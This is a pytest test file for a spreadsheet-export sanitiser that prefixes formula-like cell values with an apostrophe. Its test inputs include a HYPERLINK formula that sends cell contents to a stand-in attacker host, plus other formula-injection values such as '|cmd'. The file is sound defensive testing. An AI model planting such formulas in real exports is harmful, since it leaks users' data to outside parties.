"""simtrain.spreadsheet: no cell of an export is a formula a spreadsheet would run."""

from __future__ import annotations

import pytest

from simtrain.spreadsheet import is_formula_like, safe_cell, safe_row


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1;"clic")', "@SUM(A1:A9)", "+33 1 23 45 67 89",
    "-2+3", "\t=1+1", "\r=1+1", "\n=1", "|cmd", "%0A=1", "  =1+1", "＝1+1",
])
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nina Diallo", "", "1+1", "a=b", "police → parquet", "'x"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers():
    assert safe_row([-5, 3.5, None, "=x"]) == [-5, 3.5, None, "'=x"]
